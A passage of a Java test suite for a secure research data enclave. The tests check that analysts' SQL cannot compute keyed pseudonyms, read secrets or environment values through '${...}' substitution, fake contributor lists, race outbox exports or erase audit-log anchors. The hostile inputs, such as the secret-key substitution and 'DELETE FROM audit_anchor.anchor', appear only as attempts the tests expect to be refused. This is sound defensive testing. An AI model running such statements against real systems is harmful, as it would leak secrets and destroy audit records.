                a(u, "SELECT ENCLAVE_PSEUDONYM(region) FROM participants"),
                a(u, "SELECT `enclave_pseudonym`(sex) FROM participants"),
                a(u, "SELECT transform(array('a', 'b'), x -> enclave_pseudonym(x))"),
                a(u, "SELECT count(*) FROM participants WHERE enclave_pseudonym(sex) = 'x'")));
    }

    @Order(8)
    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource("pseudonymCalls")
    void theKeyedPseudonymCannotBeComputedForChosenValues(String user, String sql) {
        assertThat(denied(user, sql)).contains("the function enclave_pseudonym is not allowed in the enclave: it is the enclave's keyed"
                + " pseudonym");
    }

    // ---- 7b. the session's configuration never reaches a statement --------------------------

    Stream<Arguments> configurationReads() {
        // on a cluster the configuration carries the project's pseudonym key to the executors
        return users().flatMap(u -> Stream.of(
                a(u, "SELECT '${spark.enclave.secret.key.project-" + project().toLowerCase(java.util.Locale.ROOT) + "}' AS v"),
                a(u, "SELECT '${spark.app.name}' AS v"),
                a(u, "SELECT '${hiveconf:spark.app.name}' AS v"),
                a(u, "SELECT '${system:user.name}' AS v"),
                a(u, "SELECT '${env:HOME}' AS v")));
    }

    @Order(8)
    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource("configurationReads")
    void noConfigurationOrEnvironmentValueIsSubstitutedIntoAStatement(String user, String sql) {
        String literal = sql.substring(sql.indexOf('\'') + 1, sql.lastIndexOf('\''));
        assertThat(ok(user, sql).rows()).as("the text stays as the analyst wrote it").containsExactly(List.of(literal));
        String key = "spark.enclave.secret.key.project-" + project().toLowerCase(java.util.Locale.ROOT);
        assertThat(denied(user, "SET `" + key + "`")).contains(key).contains("the enclave's controls");
        assertThat(denied(user, "SET spark.sql.variable.substitute=true")).contains("spark.sql.variable.substitute");
    }

    // ---- 8. contributors that cannot be faked -----------------------------------------------

    Stream<Arguments> contributorQueries() {
        return users().flatMap(u -> Stream.of(
                a(u, "honest", "SELECT participant_id, sex FROM participants", null),
                a(u, "honest-join", "SELECT d.participant_id, p.sex FROM diagnoses d JOIN participants p ON d.participant_id = p.participant_id",
                        null),
                a(u, "cte", "WITH c AS (SELECT participant_id AS pid, sex FROM participants) SELECT pid AS participant_id, sex FROM c", null),
                a(u, "fanned-out", "SELECT concat(participant_id, '-', r.id) AS participant_id, sex FROM participants CROSS JOIN range(10) r",
                        "participant_id is computed in the select list"),
                a(u, "renamed", "SELECT lower(participant_id) AS participant_id, sex FROM participants",
                        "participant_id is computed in the select list"),
                a(u, "someone-else's-values", "SELECT a.participant_id, b.sex FROM participants a JOIN participants b ON a.sex = b.sex",
                        "joins participants with participants other than on participant_id"),
                a(u, "union", "SELECT participant_id, sex FROM participants UNION ALL SELECT participant_id, sex FROM participants",
                        "the query uses Union"),
                a(u, "invented", "SELECT * FROM VALUES ('a', 'F'), ('b', 'F'), ('c', 'F') AS t(participant_id, sex)",
                        "the query uses LocalRelation"),
                a(u, "derived", "SELECT participant_id, sex FROM workspace.before_optout", "comes from the workspace table"),
                a(u, "another-column", "SELECT sex AS participant_id, sex FROM participants", "is the column sex of"),
                a(u, "joined-to-workspace", "SELECT p.participant_id, w.sex FROM participants p JOIN workspace.before_optout w"
                        + " ON p.participant_id = w.participant_id", "reads the workspace table"),
                a(u, "generated-from-others", "SELECT p.participant_id, p.sex FROM participants p LATERAL VIEW"
                        + " explode((SELECT collect_list(sex) FROM participants)) t AS v", "computes a value with a subquery"),
                a(u, "switched-by-one-person", "SELECT participant_id, sex FROM participants WHERE EXISTS (SELECT 1 FROM diagnoses"
                        + " WHERE icd10 = 'C50.9')", "a subquery that is not about each row"),
                a(u, "cohort-filter", "SELECT participant_id, sex FROM participants WHERE participant_id IN (SELECT participant_id FROM"
                        + " diagnoses)", null),
                a(u, "switched-by-IN", "SELECT participant_id, sex FROM participants WHERE 'x' IN (SELECT participant_id FROM diagnoses"
                        + " WHERE icd10 = 'C50.9')", "IN (subquery) about something else"),
                a(u, "switched-by-EXISTS", "SELECT p.participant_id, p.sex FROM participants p WHERE EXISTS (SELECT 1 FROM diagnoses d"
                        + " WHERE d.icd10 = 'C50.9' AND p.participant_id IS NOT NULL)", "a subquery that is not about each row"),
                a(u, "filtered-by-workspace", "SELECT participant_id, sex FROM participants WHERE participant_id IN"
                        + " (SELECT participant_id FROM workspace.before_optout)", "keeps or drops rows by a workspace table")));
    }

    @Order(9)
    @ParameterizedTest(name = "[{index}] {0}: {1}")
    @MethodSource("contributorQueries")
    void anOutputWhoseContributorsCannotBeShownIsNeverAVerifiedPass(String user, String label, String query, String problem)
            throws Exception {
        byte[] key = keys.keyOrCreate(KeyStoreFile.OUTPUT_SIGNING_ALIAS).getEncoded();
        String name = user + "-" + label.replace("'", "") + ".csv";
        new OutputExporter(session, enclave.storage(), key).export(user, "acro", query, "crosstab index=sex", false, name);
        byte[] json;
        try (var in = enclave.storage().fs().open(new org.apache.hadoop.fs.Path(outbox + "/.disclosure/" + name + ".json"))) {
            json = in.readAllBytes();
        }
        OutputRecord record = OutputRecord.parse(json);
        Check contributors = record.checks().stream().filter(c -> c.rule() == RuleId.CONTRIBUTORS).findFirst().orElseThrow();
        if (problem == null) {
            assertThat(contributors.status()).as(contributors.detail()).isEqualTo(Status.PASS);
        } else {
            assertThat(contributors.status()).isEqualTo(Status.REVIEW);
            assertThat(contributors.detail()).startsWith("the contributors could not be verified: ").contains(problem);
            assertThat(record.status()).isNotEqualTo(Status.PASS);
        }
    }

    // ---- 8b. the outbox's names: whole files, one owner, never inside a statement's directory ---

    static final String EXPORT_QUERY = "SELECT participant_id, sex FROM participants";

    OutputExporter exporter() throws Exception {
        return new OutputExporter(session, enclave.storage(), keys.keyOrCreate(KeyStoreFile.OUTPUT_SIGNING_ALIAS).getEncoded());
    }

    String exporterOf(String name) throws Exception {
        return new String(enclave.storage().fs().getXAttr(new org.apache.hadoop.fs.Path(outbox, name), OutputExporter.EXPORTER),
                java.nio.charset.StandardCharsets.UTF_8);
    }

    List<String> outboxListing() throws Exception {
        List<String> names = new ArrayList<>();
        var files = enclave.storage().fs().listFiles(new org.apache.hadoop.fs.Path(outbox), true);
        while (files.hasNext()) {
            names.add(files.next().getPath().toUri().getPath().substring(outbox.length() + 1));
        }
        names.sort(null);
        return names;
    }

    @Order(9)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void anExportNeverLandsInsideOrReplacesADirectoryAStatementWrote(String user) throws Exception {
        String name = "dir-" + user + ".csv";
        ok(user, "INSERT OVERWRITE DIRECTORY '" + outbox + "/" + name + "' USING csv SELECT sex FROM participants");
        List<String> before = outboxListing();
        Throwable t = org.assertj.core.api.Assertions.catchThrowable(() -> exporter().export(user, "acro", EXPORT_QUERY,
                "crosstab index=sex", false, name));
        assertThat(t).isInstanceOf(AccessDeniedException.class)
                .hasMessage("Access denied: " + name + " in the outbox is a directory a statement wrote; choose another name");
        assertThat(outboxListing()).as("nothing moved into the directory, nothing left staged").isEqualTo(before);
    }

    @Order(9)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void anExportHoldsItsNameUntilTheWholeFileIsInPlace(String user) throws Exception {
        String name = "held-" + user + ".csv";
        OutputExporter exporter = exporter();
        List<String> refusals = new ArrayList<>();
        exporter.beforePlacingForTests(path -> {
            if (!path.getName().equals(name)) {
                return;
            }
            // the window between the staged file and its name: nobody reads half a file, nobody takes the name
            try {
                assertThat(enclave.storage().fs().exists(path)).isFalse();
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
            refusals.add(denied(user, "INSERT OVERWRITE DIRECTORY '" + outbox + "/" + name + "' USING csv SELECT sex FROM participants"));
            for (String other : members()) {
                refusals.add(org.assertj.core.api.Assertions.catchThrowable(() -> exporter().export(other, "acro", EXPORT_QUERY,
                        "crosstab index=sex", false, name)).getMessage());
            }
        });
        exporter.export(user, "acro", EXPORT_QUERY, "crosstab index=sex", false, name);
        List<String> expected = new ArrayList<>();
        expected.add("Access denied: writing to " + name + " is not allowed: an export of yours is writing it right now;"
                + " choose another name");
        for (String other : members()) {
            expected.add("Access denied: " + name + " in the outbox is being written right now by "
                    + (other.equals(user) ? "another statement or export of yours" : user) + "; choose another name");
        }
        assertThat(refusals).isEqualTo(expected);
        assertThat(enclave.storage().fs().getFileStatus(new org.apache.hadoop.fs.Path(outbox, name)).isFile()).isTrue();
        assertThat(exporterOf(name)).isEqualTo(user);
        assertThat(outboxListing()).noneMatch(n -> n.endsWith(OutputExporter.STAGED_SUFFIX));
    }

    @Order(9)
    @Test
    void anExportIsReplacedOnlyByItsExporter() throws Exception {
        org.junit.jupiter.api.Assumptions.assumeTrue(members().size() >= 2, "the project has one member");
        String a = members().get(0);
        String b = members().get(1);
        String name = "mine.csv";
        exporter().export(a, "acro", EXPORT_QUERY, "crosstab index=sex", false, name);
        byte[] made = read(outbox + "/" + name);
        Throwable t = org.assertj.core.api.Assertions.catchThrowable(() -> exporter().export(b, "acro",
                "SELECT participant_id, age_band FROM participants", "crosstab index=age_band", false, name));
        assertThat(t).isInstanceOf(AccessDeniedException.class)
                .hasMessage("Access denied: " + name + " in the outbox was made by " + a + "; choose another name");
        assertThat(read(outbox + "/" + name)).isEqualTo(made);
        assertThat(exporterOf(name)).isEqualTo(a);
        exporter().export(a, "acro", "SELECT participant_id, age_band FROM participants", "crosstab index=age_band", false, name);
        assertThat(new String(read(outbox + "/" + name), java.nio.charset.StandardCharsets.UTF_8)).startsWith("age_band,");
        assertThat(exporterOf(name)).isEqualTo(a);
    }

    @Order(9)
    @Test
    void ofTwoMembersChoosingOneNewNameAtOnceExactlyOneWins() throws Exception {
        org.junit.jupiter.api.Assumptions.assumeTrue(members().size() >= 2, "the project has one member");
        for (int round = 0; round < 6; round++) {
            String name = "race-" + round + ".csv";
            java.util.concurrent.CyclicBarrier start = new java.util.concurrent.CyclicBarrier(members().size());
            Map<String, Throwable> outcome = new java.util.concurrent.ConcurrentHashMap<>();
            List<Thread> threads = new ArrayList<>();
            for (String user : members()) {
                Thread th = new Thread(() -> {
                    try {
                        OutputExporter exporter = exporter();
                        start.await();
                        exporter.export(user, "acro", EXPORT_QUERY, "crosstab index=sex", false, name);
                        outcome.put(user, new RuntimeException("won"));
                    } catch (Throwable e) {
                        outcome.put(user, e);
                    }
                });
                threads.add(th);
                th.start();
            }
            for (Thread th : threads) {
                th.join();
            }
            List<String> winners = outcome.entrySet().stream().filter(e -> "won".equals(e.getValue().getMessage()))
                    .map(Map.Entry::getKey).toList();
            assertThat(winners).as("round %s: %s", round, outcome).hasSize(1);
            String winner = winners.get(0);
            assertThat(exporterOf(name)).isEqualTo(winner);
            outcome.forEach((user, e) -> {
                if (!user.equals(winner)) {
                    assertThat(e).isInstanceOf(AccessDeniedException.class).message().isIn(
                            "Access denied: " + name + " in the outbox was made by " + winner + "; choose another name",
                            "Access denied: " + name + " in the outbox is being written right now by " + winner + "; choose another name");
                }
            });
        }
        assertThat(outboxListing()).noneMatch(n -> n.endsWith(OutputExporter.STAGED_SUFFIX));
    }

    @Order(9)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void anExportThatStopsHalfWayLeavesNothingAndLeftoversGoAtTheNextApply(String user) throws Exception {
        String name = "stopped-" + user + ".csv";
        OutputExporter exporter = exporter();
        exporter.beforePlacingForTests(path -> {
            throw new IllegalStateException("the interpreter stopped");
        });
        Throwable t = org.assertj.core.api.Assertions.catchThrowable(() -> exporter.export(user, "acro", EXPORT_QUERY,
                "crosstab index=sex", false, name));
        assertThat(t).isInstanceOf(jp.nmi.enclave.error.EnclaveStorageException.class)
                .hasMessage("cannot write " + name + " into the outbox: the interpreter stopped");
        assertThat(outboxListing()).noneMatch(n -> n.contains(name));

        // what a process that died outright leaves: an old staged file (and a purge's), and one being written now
        org.apache.hadoop.fs.FileSystem fs = enclave.storage().fs();
        org.apache.hadoop.fs.Path old = new org.apache.hadoop.fs.Path(outbox, "." + name + ".0a1b" + OutputExporter.STAGED_SUFFIX);
        org.apache.hadoop.fs.Path oldPurge = new org.apache.hadoop.fs.Path(projectDir + "/workspace/users/" + user, ".x.parquet.purging");
        org.apache.hadoop.fs.Path fresh = new org.apache.hadoop.fs.Path(outbox, "." + name + ".2c3d" + OutputExporter.STAGED_SUFFIX);
        for (org.apache.hadoop.fs.Path p : List.of(old, oldPurge, fresh)) {
            try (var out = fs.create(p, true)) {
                out.write(String.join(",", optedOut).getBytes(java.nio.charset.StandardCharsets.UTF_8));
            }
        }
        long twoHoursAgo = System.currentTimeMillis() - java.time.Duration.ofHours(2).toMillis();
        fs.setTimes(old, twoHoursAgo, -1);
        fs.setTimes(oldPurge, twoHoursAgo, -1);
        new jp.nmi.enclave.project.DerivedData(enclave.storage()).purge(new org.apache.hadoop.fs.Path(projectDir), Set.of(), Map.of());
        assertThat(fs.exists(old)).isFalse();
        assertThat(fs.exists(oldPurge)).isFalse();
        assertThat(fs.exists(fresh)).as("an export may be writing it now").isTrue();
        fs.delete(fresh, false);
    }

    @Order(9)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void whenTheProjectCannotBeReadTheMemberIsToldSoWithoutTheStoragesWords(String user) {
        String words = "Call From enclave-nn-1.internal/10.20.0.5 to enclave-nn-1.internal:8020 failed on connection exception: "
                + projectDir + "/project.json";
        java.util.concurrent.atomic.AtomicInteger version = new java.util.concurrent.atomic.AtomicInteger();
        session.withProjectSource(new EnclaveSession.ProjectSource() {
            @Override
            public String version() {
                return "broken-" + version.incrementAndGet();
            }

            @Override
            public EnclaveSession.Project current() {
                throw new jp.nmi.enclave.error.EnclaveStorageException(words, new java.io.IOException(words));
            }
        });
        try {
            String message = denied(user, "SELECT count(*) FROM participants");
            assertThat(message).isEqualTo("Access denied: project " + project() + " cannot be read now: the enclave's storage did not"
                    + " answer; try again in a moment, or ask the operators");
        } finally {
            session.withProjectSource(DemoEnclave.projectSource(enclave.storage(), project(), new jp.nmi.enclave.policy.FilePolicySource(enclave.policyFile())));
        }
        assertThat(count(user, "SELECT count(*) FROM participants")).isPositive();
    }

    @Order(9)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void whenThePoliciesCannotBeReadEveryStatementIsRefusedWithoutSayingWhereTheyAre(String user) throws Exception {
        Path policies = enclave.policyFile();
        Path aside = policies.resolveSibling(policies.getFileName() + ".aside");
        Files.move(policies, aside);
        try {
            String message = denied(user, "SELECT count(*) FROM participants");
            assertThat(message).isEqualTo("Access denied: the project's access policies cannot be read now, so every statement is"
                    + " refused; try again in a moment, or ask the operators (the service log has the details)");
            assertThat(message).doesNotContain(policies.getParent().toString());
        } finally {
            Files.move(aside, policies);
        }
        assertThat(count(user, "SELECT count(*) FROM participants")).isPositive();
    }

    @Order(9)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void aPublishWhereThisSessionDoesNotReadIsRefusedFromTheNextStatement(String user) throws Exception {
        org.apache.hadoop.fs.FileSystem fs = enclave.storage().fs();
        org.apache.hadoop.fs.Path record = new ProjectStore(enclave.storage()).policyPlaceFile();
        byte[] before = read(record.toUri().getPath());
        // an operator published to another Ranger service: this session's file may hold older policies now
        try (var out = fs.create(record, true)) {
            out.write("{\"place\":\"ranger:enclave_hive_elsewhere\",\"publishedAt\":\"2026-12-01T00:00:00Z\"}"
                    .getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }
        try {
            assertThat(denied(user, "SELECT count(*) FROM participants")).isEqualTo("Access denied: project " + project() + " cannot be"
                    + " served: its access policies are not where this server reads them, so every statement is refused until the"
                    + " operators fix it (the service log has the details)");
        } finally {
            try (var out = fs.create(record, true)) {
                out.write(before);
            }
        }
        assertThat(count(user, "SELECT count(*) FROM participants")).isPositive();
    }

    byte[] read(String path) throws Exception {
        try (var in = enclave.storage().fs().open(new org.apache.hadoop.fs.Path(path))) {
            return in.readAllBytes();
        }
    }

    // ---- 9. smaller ones --------------------------------------------------------------------

    @Order(10)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void metadataShowsOnlyWhatTheMemberMaySee(String user) {
        assertThat(denied(user, "SHOW TABLE EXTENDED IN workspace LIKE '*'")).contains("SHOW TABLE EXTENDED is not allowed");
        assertThat(denied(user, "SHOW TABLE EXTENDED LIKE 'participants'")).contains("SHOW TABLE EXTENDED is not allowed");
        assertThat(denied(user, "DESCRIBE EXTENDED participants")).contains("DESCRIBE EXTENDED is not allowed");
        assertThat(denied(user, "DESCRIBE DATABASE workspace")).contains("is not allowed in the enclave");
        assertThat(ok(user, "SHOW TABLES IN workspace").rows()).allSatisfy(row -> assertThat(row.get(0)).isEqualTo("workspace_" + user));
    }

    // ---- 6. opt-outs reach derived data at once, and its files at the next apply ------------

    @Order(11)
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("users")
    void anOptOutReachesDerivedTablesFromTheNextStatement(String user) {
        String ids = optedOut.stream().map(p -> "'" + p + "'").collect(Collectors.joining(", "));
        assertThat(count(user, "SELECT count(*) FROM participants WHERE participant_id IN (" + ids + ")")).isZero();
        assertThat(count(user, "SELECT count(*) FROM workspace.before_optout WHERE participant_id IN (" + ids + ")")).isZero();
        assertThat(count(user, "SELECT count(*) FROM workspace.before_optout WHERE arrays_overlap(ids, array(" + ids + "))")).isZero();
        // the anti-join that once listed who opted out
        assertThat(count(user, "SELECT count(*) FROM workspace.before_optout w WHERE w.participant_id NOT IN"
                + " (SELECT participant_id FROM participants)")).isZero();
        assertThat(count(user, "SELECT count(*) FROM workspace.before_optout")).isEqualTo(workspaceRows.get(user) - optedOut.size());
    }

    @Order(12)
    @Test
    void twoMembersInOneProcessKeepTheirOwnFiltersUnderConcurrency() throws Exception {
        Map<String, Long> expected = new HashMap<>();
        for (String user : members()) {
            expected.put(user, count(user, "SELECT count(*) FROM diagnoses"));
        }
        List<Thread> threads = new ArrayList<>();
        List<Throwable> failures = java.util.Collections.synchronizedList(new ArrayList<>());
        for (String user : members()) {
            Thread t = new Thread(() -> {
                try {
                    for (int i = 0; i < 6; i++) {
                        assertThat(count(user, "SELECT count(*) FROM diagnoses")).isEqualTo(expected.get(user));
                    }
                } catch (Throwable e) {
                    failures.add(e);
                }
            });
            threads.add(t);
            t.start();
        }
        for (Thread t : threads) {
            t.join();
        }
        assertThat(failures).isEmpty();
    }

    @Order(20)
    @Test
    void theNextApplyPurgesTheirRowsFromDerivedFilesAndThePlanSaysHowMany() throws Exception {
        // something written to the outbox before the opt-out would carry them too: a raw directory export
        String first = members().get(0);
        String ids = optedOut.stream().map(p -> "'" + p + "'").collect(Collectors.joining(", "));
        jp.nmi.enclave.project.ProjectReconciler ops = new jp.nmi.enclave.project.ProjectReconciler(enclave.storage(), keys,
                PolicyPublisher.file(enclave.policyFile()), enclave.audit(), "ops", Clock.systemUTC(), Progress.NONE);
        jp.nmi.enclave.project.ProjectReconciler.Plan plan = ops.plan(jp.nmi.enclave.demo.DemoSpecs.spec(project()));
        long expected = 0;
        for (String user : members()) {
            // each member's two tables hold one row per participant; their ids also in an array
            expected += 2L * optedOut.size();
        }
        long finalExpected = expected;
        assertThat(plan.changes()).anySatisfy(c -> {
            assertThat(c.action()).isEqualTo("purge");
            assertThat(c.target()).isEqualTo("derived data");
            assertThat(c.detail()).startsWith(finalExpected + " row(s) of participants who opted out, removed from")
                    .contains("workspace/users/" + first + "/before_optout/");
        });
        assertThat(derivedText()).as("before the apply, the files still hold them").containsAnyOf(optedOut.toArray(new String[0]));
        ops.apply(jp.nmi.enclave.demo.DemoSpecs.spec(project()));
        String after = derivedText();
        for (String p : optedOut) {
            assertThat(after).doesNotContain(p);
        }
        assertThat(ops.plan(jp.nmi.enclave.demo.DemoSpecs.spec(project())).changes()).noneMatch(c -> c.action().equals("purge"));
        // and sessions that were open read the rewritten files
        for (String user : members()) {
            assertThat(count(user, "SELECT count(*) FROM workspace.before_optout")).isEqualTo(workspaceRows.get(user) - optedOut.size());
            assertThat(count(user, "SELECT count(*) FROM workspace.before_optout WHERE participant_id IN (" + ids + ")")).isZero();
        }
    }

    /** Every file of the members' workspaces, Parquet rows as text, for looking for pseudonyms. */
    String derivedText() throws Exception {
        StringBuilder b = new StringBuilder();
        var it = enclave.storage().fs().listFiles(new org.apache.hadoop.fs.Path(projectDir + "/workspace/users"), true);
        while (it.hasNext()) {
            org.apache.hadoop.fs.Path path = it.next().getPath();
            if (!path.getName().endsWith(".parquet")) {
                continue;
            }
            try (var reader = org.apache.parquet.hadoop.ParquetReader.builder(new org.apache.parquet.hadoop.example.GroupReadSupport(), path)
                    .withConf(enclave.storage().configuration()).build()) {
                for (var g = reader.read(); g != null; g = reader.read()) {
                    b.append(g).append('\n');
                }
            }
        }
        return b.toString();
    }

    @Order(21)
    @Test
    void cuttingEventsOffTheEndOfTheAuditLogIsCaughtLikeAlteringThem() throws Exception {
        Path log = enclave.auditLog();
        List<String> lines = Files.readAllLines(log);
        assertThat(enclave.audit().verify().intact()).isTrue();
        Files.write(log, lines.subList(0, lines.size() - 3));
        try {
            var v = enclave.audit().verify();
            assertThat(v.intact()).isFalse();
            assertThat(v.reason()).isEqualTo("the log ends at event " + (lines.size() - 3) + " but event " + lines.size()
                    + " was anchored in the enclave's PostgreSQL (audit_anchor.anchor) (events were cut off its end)");
            // and the anchors cannot be taken back by the log's writer
            try (var c = auditWriter().getConnection(); var s = c.createStatement()) {
                org.assertj.core.api.Assertions.assertThatThrownBy(() -> s.executeUpdate("DELETE FROM audit_anchor.anchor"))
                        .hasMessageContaining("permission denied for table anchor");
                org.assertj.core.api.Assertions.assertThatThrownBy(() -> s.executeUpdate("UPDATE audit_anchor.anchor SET hash = 'x'"))
                        .hasMessageContaining("permission denied for table anchor");
                org.assertj.core.api.Assertions.assertThatThrownBy(() -> s.executeUpdate("TRUNCATE audit_anchor.anchor"))
                        .hasMessageContaining("permission denied");
            }
        } finally {
            Files.write(log, lines);
        }
        assertThat(enclave.audit().verify().intact()).isTrue();
    }
}
